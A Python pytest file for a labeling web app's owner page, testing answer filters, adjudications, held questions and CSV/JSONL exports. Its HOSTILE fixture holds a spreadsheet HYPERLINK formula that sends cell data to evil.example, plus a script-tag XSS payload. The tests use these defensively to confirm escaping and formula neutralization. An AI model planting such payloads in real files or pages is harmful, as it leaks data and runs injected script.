"""The owner's page of answers, its filters, verdicts and files."""

import csv
import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from prefloop.web.config import WebSettings
from tests.unit.web.desk import (
    WORK_ONLY,
    Browser,
    Desk,
    answer_to,
    claim,
    make_desk,
    new_id,
    open_store,
)

HOSTILE = '=HYPERLINK("https://evil.example/"&A1),"x"\n<script>alert(1)</script>'


@pytest.fixture
def olga(desk: Desk) -> Browser:
    """The owner, after Ann answered with a hostile note and Bob flagged a harmful question."""
    _say(desk, "ann", note=HOSTILE)
    _say(desk, "ann", answer="tie", chosen=None)
    _say(desk, "bob", answer="flag", chosen=None, note="It insults.", is_harmful=True)
    return desk.browser("olga")


def _say(desk: Desk, who: str, **said: Any) -> None:
    browser = desk.browser(who)
    [question] = claim(browser)
    sent = browser.put(f"/api/answers/{new_id()}", json=answer_to(question, **said))
    assert sent.status_code == 200, sent.text


def listed(olga: Browser, **query: Any) -> list[dict[str, Any]]:
    found = olga.get("/api/team/answers", params=query)
    assert found.status_code == 200, found.text
    questions: list[dict[str, Any]] = found.json()["questions"]
    return questions


def decide(olga: Browser, question: dict[str, Any], **said: Any) -> Any:
    chosen = question["samples"][0]["id"]
    body = {"comparison": question["comparison"], "answer": "best", "chosen": chosen} | said
    return olga.post("/api/adjudications", json=body)


@pytest.mark.parametrize("offered", [(), ("shorter", "kinder")])
def test_an_owner_gives_the_reasons_of_the_run_alone(
    tmp_path: Path, offered: tuple[str, ...]
) -> None:
    with open_store(tmp_path) as store:
        desk = make_desk(store, settings=WebSettings(claims=WORK_ONLY, reasons=offered))
        _say(desk, "ann")
        olga = desk.browser("olga")
        [question] = listed(olga)
        refused = decide(olga, question, details={"reasons": ["longer"]})
        known = f"it has {', '.join(offered)}" if offered else "it has none"
        assert refused.status_code == 422
        assert f"This run has no reason 'longer'; {known}." in refused.json()["error"]["message"]
        assert listed(olga)[0]["adjudication"] is None
        taken = decide(olga, question, details={"reasons": list(offered)})
        assert taken.status_code == 201
        desk.app.state.services.close()


def test_answers_are_filtered_and_paged(olga: Browser) -> None:
    assert len(listed(olga)) == 3
    assert [len(listed(olga, view=v)) for v in ("flagged", "noted", "held", "disagreed")] == [
        *(1, 2, 1),
        0,
    ]
    assert len(listed(olga, labeler="ann")) == 2
    assert listed(olga, labeler="ann", version="2") == []
    first = olga.get("/api/team/answers", params={"limit": 2}).json()
    rest = olga.get("/api/team/answers", params={"limit": 2, "before": first["before"]}).json()
    assert (len(first["questions"]), len(rest["questions"]), rest["before"]) == (2, 1, None)
    [noted] = [a for q in listed(olga, view="noted", labeler="ann") for a in q["answers"]]
    assert (noted["note"], noted["labeler"], noted["version"]) == (HOSTILE, "ann", "1")
    assert olga.get("/api/team/answers", params={"view": "secret"}).status_code == 422


def test_the_page_shows_them_and_runs_nothing(olga: Browser) -> None:
    page = olga.get("/team/answers", params={"view": "noted"})
    assert page.status_code == 200
    assert "<script>alert" not in page.text
    assert "&lt;script&gt;alert" in page.text
    assert "It insults." in page.text
    assert "on hold" in page.text
    assert "Ann" not in olga.get("/team/answers", params={"labeler": "bob"}).text


def test_it_shows_how_clearly_why_and_whether_copies_were_marked(desk: Desk, olga: Browser) -> None:
    said = {"strength": "clearly", "copies_marked": True}
    _say(desk, "ann", details=said)
    [answer] = listed(olga, labeler="ann")[0]["answers"]
    assert answer["details"] == said
    page = olga.get("/team/answers", params={"labeler": "ann"}).text
    assert re.search(r"sample \d, clearly <span class=\"act\">copies marked</span>", page)
    rows = olga.get("/api/team/answers.jsonl").text.splitlines()
    assert any(json.loads(json.loads(row)["details"]) == said for row in rows)


def test_the_second_of_two_owners_sees_what_the_first_said(desk: Desk, olga: Browser) -> None:
    [question] = listed(olga, view="noted", labeler="ann")
    desk.people["otto"] = desk.store.people.add("otto", "owner").id
    otto = desk.browser("otto")
    made = decide(olga, question, reason="It is short.")
    assert made.status_code == 201
    refused = decide(otto, question, answer="tie", chosen=None)
    assert refused.status_code == 409
    assert "olga decided" in refused.json()["error"]["message"]
    assert "sample 1 is best: It is short." in refused.json()["error"]["message"]
    part = otto.get(f"/team/parts/answers/{question['comparison']}")
    assert "It is short." in part.text
    again = decide(otto, question, answer="tie", chosen=None, replaces=made.json()["id"])
    assert again.status_code == 201
    read = [x for x in desk.store.labels(for_training=True) if x.labeler == "otto"]
    assert [(x.comparison_id, x.answer) for x in read] == [(question["comparison"], "tie")]
    assert olga.delete(f"/api/adjudications/{again.json()['id']}").status_code == 204
    assert {x.labeler for x in desk.store.labels(for_training=True)} == {"ann", "bob"}


def test_a_release_asks_the_question_again(desk: Desk, olga: Browser) -> None:
    [held] = listed(olga, view="held")
    assert held["hold"]["reason"] == "It insults."
    assert olga.delete(f"/api/holds/{held['comparison']}").status_code == 204
    assert listed(olga, view="held") == []
    assert olga.delete("/api/holds/c0x").status_code == 422
    assert held["prompt"] in {q["prompt"] for _ in "12" for q in claim(desk.browser("ann"), 4)}


def test_a_release_after_its_batch_promises_nothing(desk: Desk, olga: Browser) -> None:
    [held] = listed(olga, view="held")
    place = f"/team/parts/answers/{held['comparison']}"
    assert 'data-done="It is asked again."' in olga.get(place).text
    desk.store.queue.freeze(held["round"])
    assert "Its batch is closed: it is not asked again." in olga.get(place).text


def test_a_spreadsheet_computes_no_cell_and_gets_every_answer(olga: Browser) -> None:
    file = olga.get("/api/team/answers.csv")
    assert file.headers["content-disposition"] == 'attachment; filename="answers.csv"'
    assert file.headers["content-type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(file.text, newline="")))
    assert len(rows) == 3
    [row] = [row for row in rows if row["note"].endswith("</script>")]
    assert row["note"] == f"'{HOSTILE}"
    assert not any(cell.lstrip().startswith(("=", "+", "-", "@")) for cell in row.values())
    assert row["prompt"].startswith("Prompt ")
    assert json.loads(row["samples"])[row["chosen"]] == row["chosen_text"]
    [flag] = csv.DictReader(
        io.StringIO(olga.get("/api/team/answers.csv", params={"view": "flagged"}).text)
    )
    assert (flag["labeler"], flag["answer"], flag["held"]) == ("bob", "flag", "true")


def test_jsonl_keeps_every_text_as_it_is(olga: Browser) -> None:
    file = olga.get("/api/team/answers.jsonl", params={"labeler": "ann"})
    rows = [json.loads(line) for line in file.text.splitlines()]
    assert len(rows) == 2
    assert HOSTILE in [row["note"] for row in rows]
    assert olga.get("/api/team/answers.xlsx").status_code == 422
